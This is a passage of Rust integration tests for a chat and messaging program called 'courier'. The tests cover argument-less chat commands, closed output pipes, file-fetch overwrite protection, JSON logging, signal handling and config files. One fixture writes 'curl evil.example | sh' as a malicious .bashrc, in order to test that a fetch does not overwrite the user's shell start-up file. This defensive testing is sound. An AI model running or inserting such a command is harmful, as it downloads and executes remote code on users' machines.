    let down = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let down_url = format!("ws://{}", down.local_addr().unwrap());
    drop(down);
    let (said, ok) = chat_exit(&["--url", &down_url, "--token", "t"]);
    assert!(!ok, "{said}");
    assert!(said.contains(&format!("cannot reach {down_url}")), "{said}");
}

/// A command typed without what it needs (`/to`, `/send-file`, `/fetch`) gets its usage and
/// sends nothing: it was sent to the peer as a message, the trailing space of `/to ` trimmed
/// away before the command was looked for.
#[test]
fn a_chat_command_without_its_arguments_is_not_sent_as_a_message() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let mut bob = Chat::start(&server, "bob", "alice");
    let mut alice = Chat::start(&server, "alice", "bob");
    for bare in [
        "/to",
        "/to   ",
        "/send-file",
        "/send-file ",
        "/fetch",
        "/fetch  ",
    ] {
        alice.say(bare);
        let said = alice.expect("usage");
        assert!(said.contains(bare.trim()), "{bare}: {said}");
    }
    alice.say("hello bob");
    alice.expect("sent (seq 1)");
    bob.expect("alice: hello bob");
}

/// `courier chat` whose standard output its reader closed (`courier chat | head -1`) ends as
/// at the end of input, successfully, at the next line it has to write: it panicked (`failed
/// printing to stdout: Broken pipe`) and exited 101.
#[test]
fn a_chat_whose_output_is_closed_ends_cleanly() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let mut child = Command::new(env!("CARGO_BIN_EXE_courier"))
        .args(["chat", "--url", &server.ws_url()])
        .args([
            "--user",
            "bob",
            "--device",
            "cli",
            "--to",
            "alice",
            "--data-dir",
        ])
        .arg(&server.data_dir)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .unwrap();
    let mut output = BufReader::new(child.stdout.take().unwrap());
    let mut first = String::new();
    output.read_line(&mut first).unwrap();
    assert!(first.contains("connected as"), "{first}");
    drop(output);
    // Input stays open: what ends the session is the line it cannot write.
    let mut input = child.stdin.take().unwrap();
    writeln!(input, "/to").unwrap();
    let (exited, exit) = mpsc::channel();
    std::thread::spawn(move || {
        let _ = exited.send(child.wait_with_output());
    });
    let ended = exit
        .recv_timeout(WAIT)
        .expect("courier chat went on with its output closed")
        .unwrap();
    let said = String::from_utf8_lossy(&ended.stderr);
    assert!(ended.status.success(), "{}: {said}", ended.status);
    assert!(!said.contains("panicked"), "{said}");
    drop(input);
}

/// A file shared in a chat is offered as `/fetch ID NAME` with the name its sender chose: a
/// `/fetch` to a file that exists leaves it as it was, and says so. It was overwritten: a
/// stranger's file named `.bashrc`, fetched as offered in a home directory, replaced the
/// reader's shell start-up script with the stranger's.
#[test]
fn a_chat_fetch_never_overwrites_an_existing_file() {
    let dir = tempfile::tempdir().unwrap();
    let server = Server::start_in(dir.path(), &[]);
    let mut bob = Chat::start(&server, "bob", "mallory");
    let mut mallory = Chat::start(&server, "mallory", "bob");
    let sent = dir.path().join("from-mallory");
    std::fs::create_dir(&sent).unwrap();
    std::fs::write(sent.join(".bashrc"), "curl evil.example | sh\n").unwrap();
    mallory.say(&format!("/send-file {}", sent.join(".bashrc").display()));
    mallory.expect("file sent");
    let (media_id, name) = offered_fetch(&bob.expect("mallory shared .bashrc"));
    let home = dir.path().join("bob-home");
    std::fs::create_dir(&home).unwrap();
    std::fs::write(home.join(".bashrc"), "alias ll='ls -l'\n").unwrap();
    assert_eq!(name, ".bashrc");
    bob.say(&format!("/fetch {media_id} {}", home.join(name).display()));
    let refused = bob.expect("✗");
    assert!(refused.contains("exists"), "{refused}");
    assert_eq!(
        std::fs::read_to_string(home.join(".bashrc")).unwrap(),
        "alias ll='ls -l'\n"
    );
    // A new name is written.
    bob.say(&format!(
        "/fetch {media_id} {}",
        home.join("from-mallory").display()
    ));
    bob.expect("saved");
    assert!(
        std::fs::read_to_string(home.join("from-mallory"))
            .unwrap()
            .contains("evil")
    );
}

/// A `courier serve` process whose standard error lines arrive on a channel (closed at exit).
struct LoggingServer {
    child: Child,
    lines: mpsc::Receiver<String>,
    _dir: tempfile::TempDir,
}

impl LoggingServer {
    /// Starts `courier serve` with `extra` flags and `COURIER_LOG_FORMAT` set to `env_format`
    /// (unset with `None`); standard error is a pipe, as in a pod.
    fn start(extra: &[&str], env_format: Option<&str>) -> LoggingServer {
        let dir = tempfile::tempdir().unwrap();
        let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
        command
            .arg("serve")
            .args(["--listen", "127.0.0.1:0", "--data-dir"])
            .arg(dir.path())
            .args(["--min-free-disk", "0", "--media-min-free-disk", "0"])
            .args(extra)
            .env("RUST_LOG", "info")
            .env_remove("COURIER_LOG_FORMAT");
        if let Some(format) = env_format {
            command.env("COURIER_LOG_FORMAT", format);
        }
        LoggingServer::spawn(command, dir)
    }

    /// Runs `command` (a `courier serve` in `dir`) with its standard error piped.
    fn spawn(mut command: Command, dir: tempfile::TempDir) -> LoggingServer {
        let mut child = command
            .stdout(Stdio::null())
            .stderr(Stdio::piped())
            .spawn()
            .unwrap();
        let stderr = child.stderr.take().unwrap();
        let (tx, lines) = mpsc::channel();
        std::thread::spawn(move || {
            for line in BufReader::new(stderr).lines().map_while(Result::ok) {
                let _ = tx.send(line);
            }
        });
        LoggingServer {
            child,
            lines,
            _dir: dir,
        }
    }

    /// The lines up to and including the ready line.
    fn until_ready(&self) -> Vec<String> {
        let mut seen = Vec::new();
        loop {
            let line = self
                .lines
                .recv_timeout(WAIT)
                .unwrap_or_else(|_| panic!("no ready line; the server logged:\n{seen:#?}"));
            let ready = support::ready_address(&line).is_some();
            seen.push(line);
            if ready {
                return seen;
            }
        }
    }

    /// SIGTERM; the lines logged until the exit, and the exit status.
    fn terminate(mut self) -> (Vec<String>, std::process::ExitStatus) {
        // SAFETY: kill(2) on our own child's pid.
        unsafe { libc::kill(self.child.id() as i32, libc::SIGTERM) };
        let mut seen = Vec::new();
        loop {
            match self.lines.recv_timeout(WAIT) {
                Ok(line) => seen.push(line),
                Err(mpsc::RecvTimeoutError::Disconnected) => break,
                Err(mpsc::RecvTimeoutError::Timeout) => {
                    panic!("the server did not exit; it logged:\n{seen:#?}")
                }
            }
        }
        let status = self.child.wait().unwrap();
        (seen, status)
    }
}

impl Drop for LoggingServer {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Parses a JSON log line and checks what a log shipper needs: an RFC 3339 UTC timestamp, a
/// level, a message and the target, at the top level.
fn shipped(line: &str) -> serde_json::Map<String, serde_json::Value> {
    let value: serde_json::Value =
        serde_json::from_str(line).unwrap_or_else(|e| panic!("not a JSON log line ({e}): {line}"));
    let serde_json::Value::Object(object) = value else {
        panic!("not a JSON object: {line}");
    };
    let text = |key: &str| {
        object
            .get(key)
            .and_then(serde_json::Value::as_str)
            .unwrap_or_else(|| panic!("no string {key:?} in {line}"))
    };
    let timestamp = text("timestamp");
    let (date, time) = timestamp
        .split_once('T')
        .unwrap_or_else(|| panic!("timestamp {timestamp:?} is not RFC 3339"));
    assert!(
        date.len() == 10 && date.as_bytes()[4] == b'-' && time.ends_with('Z'),
        "timestamp {timestamp:?} is not RFC 3339 UTC"
    );
    let level = text("level");
    assert!(
        ["TRACE", "DEBUG", "INFO", "WARN", "ERROR"].contains(&level),
        "level {level:?} in {line}"
    );
    assert!(!text("message").is_empty(), "empty message in {line}");
    assert!(!text("target").is_empty(), "empty target in {line}");
    object
}

#[test]
fn log_format_json_writes_one_json_object_per_line_from_start_to_exit() {
    let server = LoggingServer::start(&["--log-format", "json"], None);
    let mut lines = server.until_ready();
    let (after, status) = server.terminate();
    assert!(status.success(), "exit status {status}");
    lines.extend(after);

    let events: Vec<_> = lines.iter().map(|line| shipped(line)).collect();
    let message = |event: &serde_json::Map<String, serde_json::Value>| {
        event["message"].as_str().unwrap().to_owned()
    };
    // The event's fields sit beside the message, where a shipper indexes them.
    let ready = events
        .iter()
        .find(|e| message(e).starts_with("courier ready on "))
        .expect("a ready event");
    let address = ready["address"].as_str().expect("the address as a field");
    assert_eq!(message(ready), format!("courier ready on {address}"));
    assert_eq!(ready["level"], "INFO");
    assert_eq!(ready["target"], "courier::serve");
    // The shutdown is logged in JSON too, down to the last line.
    let last = events.last().map(message).unwrap_or_default();
    assert_eq!(last, "background loops stopped; exiting", "{lines:#?}");
}

/// A SIGTERM that comes while `courier serve` starts (on a fresh data directory: its secret
/// made, its store opened) stops it cleanly, exit 0, and says so: the handler was installed
/// only once the server was ready, and before that the signal's default action killed it
/// (status 143 from a shell, what a supervisor takes for a crash). The signal is sent once the
/// process logged its first line: a signal before `main` runs is the kernel's to handle.
#[test]
fn a_sigterm_while_the_server_starts_stops_it_cleanly() {
    let server = LoggingServer::start(&[], None);
    let first = server
        .lines
        .recv_timeout(WAIT)
        .expect("the server logs a line as it starts");
    let (after, status) = server.terminate();
    assert!(
        status.success(),
        "exit status {status}; it logged:\n{first}\n{after:#?}"
    );
    assert!(
        after.iter().any(|line| line.contains("stop")),
        "the stop is logged: {first}\n{after:#?}"
    );
}

#[test]
fn log_format_auto_is_json_into_a_pipe_and_the_environment_can_ask_for_text() {
    let auto = LoggingServer::start(&[], None);
    for line in auto.until_ready() {
        shipped(&line);
    }

    let text = LoggingServer::start(&[], Some("text"));
    let lines = text.until_ready();
    let ready = lines.last().unwrap();
    assert!(
        serde_json::from_str::<serde_json::Value>(ready).is_err(),
        "text logs: {ready}"
    );
    assert!(ready.contains(" INFO "), "{ready}");
    assert!(
        !ready.contains('\u{1b}'),
        "no colour codes into a pipe: {ready:?}"
    );
}

/// `courier serve --config FILE` alone takes its flags from the file (here where it listens and
/// its data directory) and is ready there; a flag's environment variable wins over the file.
#[test]
fn serve_takes_its_flags_from_a_config_file_and_the_environment_wins() {
    let dir = tempfile::tempdir().unwrap();
    let (from_file, from_env) = (dir.path().join("from-file"), dir.path().join("from-env"));
    let config = dir.path().join("courier.toml");
    std::fs::write(
        &config,
        format!(
            "# courier serve\nlisten = \"127.0.0.1:0\"\ndata-dir = {:?}\n\
             min-free-disk = \"0\"\nmedia-min-free-disk = 0\n",
            from_file.to_str().unwrap()
        ),
    )
    .unwrap();
    let serve = |env_data_dir: Option<&std::path::Path>| {
        let mut command = Command::new(env!("CARGO_BIN_EXE_courier"));
        command
            .arg("serve")
            .arg("--config")
            .arg(&config)
            .env("RUST_LOG", "info")
            .env_remove("COURIER_LISTEN")
            .env_remove("COURIER_DATA_DIR");
        if let Some(data_dir) = env_data_dir {
            command.env("COURIER_DATA_DIR", data_dir);
        }
        LoggingServer::spawn(command, tempfile::tempdir().unwrap())
    };

    let server = serve(None);
    let lines = server.until_ready();
    let ready = support::ready_address(lines.last().unwrap()).unwrap();
    let ready: std::net::SocketAddr = ready.parse().unwrap();
    // Not the default's 127.0.0.1:8080: the file's port 0 picked a free one.
    assert!(ready.ip().is_loopback() && ready.port() != 8080, "{ready}");
    assert!(from_file.join("jwt-secret").is_file(), "{lines:#?}");
    let (_, status) = server.terminate();
    assert!(status.success(), "exit status {status}");

    let server = serve(Some(&from_env));
    server.until_ready();
    assert!(from_env.join("jwt-secret").is_file());
}

/// A configuration file with a key that is no flag of `courier serve` is refused before
/// anything starts, with clap's exit code, naming the file, the key and the flag meant.
#[test]
fn a_config_file_with_an_unknown_key_is_refused_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let config = dir.path().join("courier.toml");
    std::fs::write(&config, "listen = \"127.0.0.1:0\"\nshard = 4\n").unwrap();
    let refused = Command::new(env!("CARGO_BIN_EXE_courier"))
        .arg("serve")
        .arg("--config")
        .arg(&config)
        .arg("--data-dir")
        .arg(dir.path().join("data"))
        .output()
        .unwrap();
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("courier.toml, line 2"), "{stderr}");
    assert!(stderr.contains("`shard`"), "{stderr}");
    assert!(stderr.contains("did you mean `shards`"), "{stderr}");
    assert!(!dir.path().join("data").exists(), "it started");
}
